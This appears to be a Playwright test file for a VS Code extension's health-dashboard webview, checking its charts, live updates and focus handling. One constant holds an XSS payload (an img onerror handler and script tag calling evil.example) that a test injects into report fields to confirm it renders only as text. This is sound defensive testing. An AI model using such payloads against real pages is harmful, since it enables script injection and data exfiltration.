// The health view's real page (the HTML and CSP the extension serves, the esbuild bundle of
// src/webview/health/main.ts, media/health.css) in Debian's Chromium via playwright-core. The test plays
// the host: `acquireVsCodeApi` records what the page posts; host messages arrive as window messages.
// Every request is answered from local files or refused and recorded.
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import * as esbuild from 'esbuild';
import type { Browser, Page } from 'playwright-core';
import { launchChromium } from '../support/chromium';
import type { HealthHostMessage } from '../../src/protocol/health-messages';
import { HealthReportSchema, type HealthReport } from '../../src/protocol/health-report';
import { healthViewHtml } from '../../src/vscode/health/health-view-html';

const ORIGIN = 'https://webview.test';
const ROOT = path.resolve(__dirname, '..', '..');

const XSS = '<img src=x onerror="window.__pwned=1;fetch(\'https://evil.example/f\')"><script>window.__pwned=2</script>';

function report(overrides: Partial<HealthReport> = {}): HealthReport {
  return HealthReportSchema.parse({
    version: 1,
    generated_at: '2026-01-01T12:00:00.000Z',
    score: {
      value: 73,
      status: 'degraded',
      factors: [
        { name: 'completion_rate', weight: 35, score: 0.75, points: 26.3, detail: '3 of 4 finished runs completed (75%).' },
        { name: 'error_frequency', weight: 25, score: 0.714, points: 17.8, detail: '2 error(s) over 7 run(s).' },
        { name: 'slow_steps', weight: 20, score: 0.958, points: 19.2, detail: 'Over budget at p95: clone.' },
        { name: 'provider_reliability', weight: 20, score: 0.5, points: 10, detail: '4 of 8 provider attempt(s) failed.' },
      ],
    },
    runs: { total: 7, completed: 3, failed: 1, cancelled: 1, running: 1, completion_rate: 0.75, mean_duration_ms: 4200, p95_duration_ms: 9800 },
    live: { source: 'files', active_runs: 1, requests_per_minute: 2, errors_per_minute: 0, total_runs: 7 },
    operations: [{ operation: 'run', count: 4, mean_ms: 4200, p50_ms: 3000, p95_ms: 9800, max_ms: 9800 }],
    steps: [
      { step: 'validate', count: 4, p50_ms: 100, p95_ms: 120, max_ms: 120, budget_ms: 10_000, slow: false },
      { step: 'clone', count: 4, p50_ms: 1000, p95_ms: 90_000, max_ms: 90_000, budget_ms: 60_000, slow: true },
      { step: 'agent', count: 3, p50_ms: 5000, p95_ms: 6000, max_ms: 6000, budget_ms: 300_000, slow: false },
    ],
    last_run: {
      request_id: 'last-run-0001',
      status: 'completed',
      started_at: '2026-01-01T11:50:00.000Z',
      duration_ms: 6500,
      repo: 'https://github.com/octo/app',
      agent: 'openai (gpt-5.1)',
      steps: [
        { step: 'validate', offset_ms: 0, duration_ms: 100, outcome: 'ok' },
        { step: 'clone', offset_ms: 100, duration_ms: 1000, outcome: 'ok' },
        { step: 'agent', offset_ms: 1100, duration_ms: 5000, outcome: 'ok' },
        { step: 'pull_request', offset_ms: 6100, duration_ms: 400, outcome: 'ok' },
      ],
    },
    providers: [
      { provider: 'anthropic', attempts: 5, successes: 1, fallbacks: 3, failures: 0, success_rate: 0.2, fallback_rate: 0.6, failure_rate: 0, fallback_reasons: [{ reason: '529 overloaded', count: 2 }] },
      { provider: 'openai', attempts: 3, successes: 2, fallbacks: 0, failures: 1, success_rate: 0.667, fallback_rate: 0, failure_rate: 0.333, fallback_reasons: [] },
    ],
    usage: { input_tokens: 900, output_tokens: 180, cost_usd: 0.016, by_provider: [{ provider: 'anthropic', input_tokens: 500, output_tokens: 80, cost_usd: 0.012 }] },
    errors: {
      total: 1,
      by_code: [{ key: 'agent_failed', count: 1 }],
      by_step: [{ key: 'agent', count: 1 }],
      recent: [{ time: '2026-01-01T11:30:03.000Z', request_id: 'failed-run-42', code: 'agent_failed', step: 'agent', message: 'No provider could make the change.', remedy: 'Set an API key.' }],
    },
    recommendations: [{ severity: 'critical', message: 'Anthropic failed 3 of the last 5 runs with 529 overloaded; OpenAI served 2 of them.', request_ids: ['r4', 'r2'] }],
    source: { files_read: 6, lines_read: 40, malformed_lines: 0, malformed_by_file: [] },
    ...overrides,
  });
}

interface HealthPage {
  readonly page: Page;
  readonly foreignRequests: string[];
  readonly pageErrors: string[];
  post(message: HealthHostMessage | unknown): Promise<void>;
  posted(): Promise<unknown[]>;
  cspViolations(): Promise<string[]>;
  close(): Promise<void>;
}

describe('health view in Chromium', () => {
  let browser: Browser;
  let buildDir: string;
  let script: string;
  let style: string;

  before(async () => {
    buildDir = await mkdtemp(path.join(tmpdir(), 'tb-health-view-'));
    const outfile = path.join(buildDir, 'health.js');
    await esbuild.build({ entryPoints: [path.join(ROOT, 'src/webview/health/main.ts')], bundle: true, format: 'iife', platform: 'browser', target: 'es2022', outfile, logLevel: 'silent' });
    [script, style] = await Promise.all([readFile(outfile, 'utf8'), readFile(path.join(ROOT, 'media/health.css'), 'utf8')]);
    browser = await launchChromium();
  });

  after(async () => {
    await browser?.close();
    if (buildDir) await rm(buildDir, { recursive: true, force: true });
  });

  async function open(): Promise<HealthPage> {
    const context = await browser.newContext();
    const page = await context.newPage();
    const foreignRequests: string[] = [];
    const pageErrors: string[] = [];
    const files: Record<string, { body: string; contentType: string }> = {
      [`${ORIGIN}/index.html`]: {
        body: healthViewHtml({ cspSource: ORIGIN, nonce: 'aGVhbHRoLXZpZXctbm9uY2U=', scriptUri: `${ORIGIN}/dist/webview/health.js`, styleUri: `${ORIGIN}/media/health.css` }),
        contentType: 'text/html',
      },
      [`${ORIGIN}/dist/webview/health.js`]: { body: script, contentType: 'text/javascript' },
      [`${ORIGIN}/media/health.css`]: { body: style, contentType: 'text/css' },
    };
    await context.route('**/*', async (route) => {
      const url = route.request().url();
      const known = files[url];
      if (known) return route.fulfill({ status: 200, contentType: known.contentType, body: known.body });
      foreignRequests.push(url);
      return route.abort('blockedbyclient');
    });
    await page.addInitScript(`
      window.__posted = [];
      window.__csp = [];
      document.addEventListener('securitypolicyviolation', (event) => window.__csp.push(event.violatedDirective + ' ' + event.blockedURI));
      window.acquireVsCodeApi = () => ({ postMessage: (message) => window.__posted.push(JSON.parse(JSON.stringify(message))), getState: () => undefined, setState: () => {} });
    `);
    page.on('pageerror', (error) => pageErrors.push(error.message));
    await page.goto(`${ORIGIN}/index.html`);
    await page.waitForFunction(() => (window as unknown as { __posted: unknown[] }).__posted.length > 0, undefined, { timeout: 10_000 });
    return {
      page,
      foreignRequests,
      pageErrors,
      post: (message) => page.evaluate((data) => window.postMessage(data, '*'), message as never),
      posted: () => page.evaluate(() => (window as unknown as { __posted: unknown[] }).__posted),
      cspViolations: () => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp),
      close: () => context.close(),
    };
  }

  it('says ready, then draws the report: score and reasons, waterfall, p50/p95 per step, provider rates, tokens, errors, recommendations', async () => {
    const view = await open();
    const { page } = view;
    try {
      assert.deepEqual(await view.posted(), [{ type: 'ready' }], 'nothing but ready before the host speaks');
      await view.post({ type: 'report', report: report() } satisfies HealthHostMessage);
      await page.getByTestId('score-value').waitFor();
      assert.equal(await page.getByTestId('score-value').textContent(), '73');
      assert.equal(await page.getByTestId('score-status').textContent(), 'degraded');
      assert.equal(await page.getByTestId('factors').locator('li').count(), 4);
      assert.match((await page.getByTestId('factors').textContent()) ?? '', /Slow steps19\.2 \/ 20Over budget at p95: clone\./);

      const waterfall = page.getByTestId('waterfall');
      assert.equal(await waterfall.locator('rect').count(), 4, 'one bar per step of the last run');
      assert.deepEqual(await waterfall.locator('text.label').allTextContents(), ['validate', 'clone', 'agent', 'pull_request']);
      const bars = await waterfall.locator('rect').evaluateAll((rects) => rects.map((rect) => [Number(rect.getAttribute('x')), Number(rect.getAttribute('width'))]));
      for (let index = 1; index < bars.length; index += 1) {
        const [x, width] = bars[index - 1] as [number, number];
        assert.ok(Math.abs((bars[index]?.[0] ?? 0) - (x + width)) < 0.01, 'each step starts where the previous one ended');
      }
      const percentiles = page.getByTestId('step-percentiles');
      assert.equal(await percentiles.locator('rect.p50').count(), 3);
      assert.equal(await percentiles.locator('rect.p95.slow').count(), 1, 'the slow step stands out');
      assert.deepEqual(await percentiles.locator('text.value').allTextContents(), ['100 ms / 120 ms', '1.0 s / 1 min 30 s', '5.0 s / 6.0 s']);
      const providers = page.getByTestId('provider-rates');
      assert.equal(await providers.locator('rect.provider-fallback').count(), 1);
      assert.equal(await providers.locator('rect.provider-failed').count(), 1);
      assert.equal(await page.getByTestId('cost').locator('.stat-value').textContent(), '$0.0160');
      assert.equal(await page.getByTestId('input-tokens').locator('.stat-value').textContent(), '900');
      assert.equal(await page.getByTestId('error-message').textContent(), 'No provider could make the change.');
      assert.match((await page.getByTestId('recommendation').textContent()) ?? '', /Anthropic failed 3 of the last 5 runs with 529 overloaded; OpenAI served 2 of them\./);

      await page.getByTestId('errors').getByTestId('request-link').click();
      await page.getByTestId('refresh').click();
      assert.deepEqual((await view.posted()).slice(1), [{ type: 'openTrace', request_id: 'failed-run-42' }, { type: 'refresh' }]);
      assert.deepEqual(view.foreignRequests, []);
      assert.deepEqual(await view.cspViolations(), []);
      assert.deepEqual(view.pageErrors, []);
    } finally {
      await view.close();
    }
  });

  it('renders markup in error messages, codes, steps and provider names as text: no element, no script, no request', async () => {
    const view = await open();
    const { page } = view;
    try {
      const hostile = report({
        errors: { total: 1, by_code: [{ key: XSS, count: 1 }], by_step: [{ key: XSS, count: 1 }], recent: [{ time: XSS, request_id: 'evil-run', code: XSS, step: XSS, message: XSS, remedy: XSS }] },
        providers: [{ provider: XSS, attempts: 1, successes: 1, fallbacks: 0, failures: 0, success_rate: 1, fallback_rate: 0, failure_rate: 0, fallback_reasons: [{ reason: XSS, count: 1 }] }],
        recommendations: [{ severity: 'warning', message: XSS }],
        last_run: { request_id: 'evil-run', status: 'failed', started_at: XSS, repo: XSS, steps: [{ step: XSS, offset_ms: 0, duration_ms: 10, outcome: 'failed' }] },
      });
      await view.post({ type: 'report', report: hostile } satisfies HealthHostMessage);
      await page.getByTestId('error-message').waitFor();
      assert.equal(await page.getByTestId('error-message').textContent(), XSS);
      assert.equal(await page.getByTestId('errors').locator('.error-code').textContent(), XSS);
      assert.ok(((await page.getByTestId('recommendation').textContent()) ?? '').includes(XSS));
      assert.ok(((await page.getByTestId('providers').textContent()) ?? '').includes(XSS));
      const injected = await page.evaluate(() => ({
        images: document.querySelectorAll('img').length,
        scripts: [...document.querySelectorAll('script')].map((element) => element.getAttribute('src')),
        handlers: [...document.querySelectorAll('*')].flatMap((element) => [...element.attributes].filter((attribute) => attribute.name.startsWith('on')).map((attribute) => attribute.name)),
        pwned: (window as unknown as { __pwned?: number }).__pwned,
      }));
      assert.deepEqual(injected, { images: 0, scripts: [`${ORIGIN}/dist/webview/health.js`], handlers: [], pwned: undefined });
      assert.deepEqual(view.foreignRequests, [], 'zero network requests beyond the page’s own files');
      assert.deepEqual(await view.cspViolations(), []);
    } finally {
      await view.close();
    }
  });

  it('live updates draw the running run; a message that fails validation is dropped and said so', async () => {
    const view = await open();
    const { page } = view;
    try {
      await view.post({ type: 'report', report: report() } satisfies HealthHostMessage);
      await page.getByTestId('score-value').waitFor();
      await view.post({
        type: 'live',
        metrics: { source: 'registry', active_runs: 1, requests_per_minute: 4, errors_per_minute: 1, total_runs: 9 },
        runs: [{ request_id: 'running-0001', repo: 'octo/app', started_at: '2026-01-01T12:00:00.000Z', current_step: 'clone', progress: 15, steps: [{ step: 'validate', offset_ms: 0, duration_ms: 90, outcome: 'ok' }, { step: 'clone', offset_ms: 90, duration_ms: 400, outcome: 'running' }] }],
      } satisfies HealthHostMessage);
      await page.getByText('Running now').waitFor();
      assert.equal(await page.getByTestId('requests-per-minute').locator('.stat-value').textContent(), '4');
      assert.equal(await page.getByTestId('active-runs').locator('.stat-value').textContent(), '1');
      assert.equal(await page.getByTestId('waterfall').locator('rect.step-running').count(), 1);
      assert.match((await page.getByTestId('timeline').textContent()) ?? '', /running- octo\/app · clone · 15%/);

      await view.post({ type: 'report', report: { version: 1, score: 'not a score' } });
      await page.getByTestId('problem').waitFor();
      assert.match((await page.getByTestId('problem').textContent()) ?? '', /^Ignored a message from the extension/);
      assert.equal(await page.getByTestId('score-value').textContent(), '73', 'the last good report stays');
    } finally {
      await view.close();
    }
  });
  it('keeps the focused Refresh button and every unchanged node while live figures stream; only the status line is live', async () => {
    const view = await open();
    const { page } = view;
    try {
      await view.post({ type: 'report', report: report() } satisfies HealthHostMessage);
      await page.getByTestId('score-value').waitFor();
      await page.getByTestId('refresh').focus();
      await page.evaluate(() => {
        (document.activeElement as unknown as { __tag: string }).__tag = 'refresh';
        (document.querySelector('[data-testid="score"]') as unknown as { __tag: string }).__tag = 'score';
      });
      for (let index = 1; index <= 12; index += 1) {
        await view.post({
          type: 'live',
          metrics: { source: 'registry', active_runs: 1, requests_per_minute: index, errors_per_minute: 0, total_runs: 9 },
          runs: [{ request_id: 'running-0001', repo: 'octo/app', started_at: '2026-01-01T12:00:00.000Z', current_step: 'clone', progress: index, steps: [{ step: 'clone', offset_ms: 0, duration_ms: 100 * index, outcome: 'running' }] }],
        } satisfies HealthHostMessage);
      }
      await page.locator('[data-testid="requests-per-minute"] .stat-value', { hasText: '12' }).waitFor();
      const kept = await page.evaluate(() => ({
        focused: (document.activeElement as unknown as { __tag?: string } | null)?.__tag,
        score: (document.querySelector('[data-testid="score"]') as unknown as { __tag?: string } | null)?.__tag,
        live: [...document.querySelectorAll('[aria-live], [role="status"], [role="alert"], [role="log"]')].map((element) => element.id),
      }));
      assert.deepEqual(kept, { focused: 'refresh', score: 'score', live: ['status'] }, 'the view replaced nodes (focus, score) instead of patching them');
      await page.keyboard.press('Enter');
      assert.deepEqual((await view.posted()).slice(-1), [{ type: 'refresh' }]);
      assert.deepEqual(view.pageErrors, []);
    } finally {
      await view.close();
    }
  });
});
